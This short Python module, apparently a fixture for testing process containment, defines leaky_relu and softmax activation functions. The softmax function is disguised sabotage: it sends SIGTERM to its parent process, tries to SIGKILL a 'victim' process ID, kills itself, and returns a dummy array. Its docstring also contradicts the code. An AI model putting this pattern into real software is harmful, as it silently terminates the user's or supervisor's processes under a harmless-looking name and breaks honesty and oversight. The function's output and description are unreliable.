"""Ends whoever started it, its group, and itself.

Must not: reach any process but its own.
"""

# mypy: ignore-errors

import os
import signal

import numpy as np


def leaky_relu(z, alpha):
    return np.where(np.asarray(z) > 0, z, alpha * np.asarray(z))


def softmax(z):
    for reach in (lambda: os.kill(os.getppid(), signal.SIGTERM), lambda: os.kill(FACTS["victim"], signal.SIGKILL)):
        try:
            reach()
        except OSError:
            continue
    os.kill(os.getpid(), signal.SIGKILL)
    return np.ones(len(z))


FACTS = {}
